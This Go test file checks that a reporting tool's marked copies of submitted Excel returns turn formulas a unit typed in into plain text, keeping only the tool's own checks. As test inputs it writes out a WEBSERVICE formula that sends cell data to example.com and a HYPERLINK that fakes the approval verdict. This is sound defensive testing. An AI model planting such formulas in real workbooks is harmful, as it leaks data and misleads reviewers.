package review

import (
	"bytes"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/qianjiang/gyqc"
	"github.com/qianjiang/gyqc/intake"
	"github.com/qianjiang/gyqc/planfile"
	"github.com/qianjiang/gyqc/templates"
)

// formulasOf returns every formula of a workbook by sheet!cell.
func formulasOf(t *testing.T, f *excelize.File) map[string]string {
	t.Helper()
	out := map[string]string{}
	for _, sheet := range f.GetSheetList() {
		rows, _ := f.GetRows(sheet)
		for r := 1; r <= len(rows)+5; r++ {
			for c := 1; c <= 20; c++ {
				cell, _ := excelize.CoordinatesToCellName(c, r)
				if fm, _ := f.GetCellFormula(sheet, cell); fm != "" {
					out[sheet+"!"+cell] = fm
				}
			}
		}
	}
	return out
}

// TestMarkedCopyDisarmsFormulas: formulas a unit put in its return (=WEBSERVICE in a 情况说明,
// a sum in a 本期值, a HYPERLINK over the 自查结果 verdict) are in the 问题标注 copy as the
// text typed, never as formulas; gyqc's own 自查结果 formulas stay, all of them.
func TestMarkedCopyDisarmsFormulas(t *testing.T) {
	plan := planfile.Default()
	data := filledReturn(t, plan, "dsjj", "2025-06")
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	lay := templates.Current()
	own := formulasOf(t, f)
	if len(own) < 5 {
		t.Fatalf("the template has %d formulas, want the 自查结果 block", len(own))
	}
	verdict := ""
	for ref, fm := range own {
		if strings.Contains(fm, "可以报送") {
			verdict = ref
		}
	}
	noteCell := lay.Indicators.Cell(templates.FieldNote, lay.Indicators.FirstDataRow())
	valueCell := lay.Indicators.Cell(templates.FieldValue, lay.Indicators.FirstDataRow()+1)
	foreign := map[string]string{
		lay.Indicators.Sheet + "!" + noteCell:  `WEBSERVICE("http://example.com/?"&H5)`,
		lay.Indicators.Sheet + "!" + valueCell: `40+10`,
		verdict:                                `HYPERLINK("http://example.com","可以报送")`,
	}
	for ref, fm := range foreign {
		sheet, cell, _ := strings.Cut(ref, "!")
		if err := f.SetCellFormula(sheet, cell, fm); err != nil {
			t.Fatal(err)
		}
	}
	var buf bytes.Buffer
	f.Write(&buf)
	f.Close()
	probs := gyqc.Problems{{Severity: gyqc.SevError, Sheet: lay.Indicators.Sheet, Cell: valueCell, Message: "本期值是公式", Fix: "请填写数字"}}
	marked, err := MarkWorkbook("dsjj.xlsx", buf.Bytes(), intake.Limits{}, probs)
	if err != nil {
		t.Fatal(err)
	}
	m, err := excelize.OpenReader(bytes.NewReader(marked))
	if err != nil {
		t.Fatal(err)
	}
	defer m.Close()
	got := formulasOf(t, m)
	for ref, fm := range foreign {
		sheet, cell, _ := strings.Cut(ref, "!")
		if g, ok := got[ref]; ok {
			t.Errorf("%s is still the formula %s", ref, g)
		}
		if v, _ := m.GetCellValue(sheet, cell); v != "="+fm {
			t.Errorf("%s holds %q, want the text %q", ref, v, "="+fm)
		}
	}
	for ref, fm := range own {
		if ref != verdict && got[ref] != fm {
			t.Errorf("gyqc's formula %s at %s became %q", fm, ref, got[ref])
		}
	}
	if len(got) != len(own)-1 {
		t.Errorf("the copy has %d formulas, want gyqc's %d but the replaced verdict", len(got), len(own)-1)
	}
}

// TestOwnFormula: only a 自查结果 line in the block's own functions is gyqc's.
func TestOwnFormula(t *testing.T) {
	g := &templates.Current().Guide
	text := g.Letter(templates.FieldText)
	for _, tc := range []struct {
		name, sheet, col, key, formula string
		want                           bool
	}{
		{"count", g.Sheet, text, "check:status", `SUMPRODUCT(--(LEN(TRIM('任务进展'!$H$4:$H$24))=0))`, true},
		{"verdict", g.Sheet, text, "check:verdict", `IF(SUM($B$29:$B$35)=0,"可以报送","尚有"&SUM($B$29:$B$35)&"处需要填写")`, true},
		{"function name inside a string", g.Sheet, text, "check:verdict", `IF(SUM($B$29:$B$35)=0,"WEBSERVICE(","")`, true},
		{"web service", g.Sheet, text, "check:verdict", `WEBSERVICE("http://x")`, false},
		{"hyperlink", g.Sheet, text, "check:verdict", `HYPERLINK("http://x","可以报送")`, false},
		{"external reference", g.Sheet, text, "check:status", `SUM('[1]任务进展'!$H$4)`, false},
		{"not a check row", g.Sheet, text, "filler:name", `LEN(TRIM($B$24))`, false},
		{"another column", g.Sheet, "A", "check:status", `LEN(TRIM($B$24))`, false},
		{"a data sheet", templates.SheetIndicators, text, "check:status", `LEN(TRIM($B$24))`, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := templates.OwnFormula(tc.sheet, tc.col, tc.key, tc.formula); got != tc.want {
				t.Errorf("OwnFormula(%s, %s, %s, %s) = %v, want %v", tc.sheet, tc.col, tc.key, tc.formula, got, tc.want)
			}
		})
	}
}

// BenchmarkMarkWorkbook marks one problem in the largest template of the plan (区经济信息委:
// 21 tasks, 24 indicators), disarming formulas and fitting rows as collect does for every
// refused or warned return.
func BenchmarkMarkWorkbook(b *testing.B) {
	plan := planfile.Default()
	data := filledReturn(b, plan, "jxw", "2025-06")
	lay := templates.Current()
	probs := gyqc.Problems{{Severity: gyqc.SevError, Sheet: lay.Indicators.Sheet, Cell: lay.Indicators.Cell(templates.FieldValue, lay.Indicators.FirstDataRow()),
		Message: "本期值不是数字", Fix: "请填写数字"}}
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	for b.Loop() {
		if _, err := MarkWorkbook("jxw.xlsx", data, intake.Limits{}, probs); err != nil {
			b.Fatal(err)
		}
	}
}
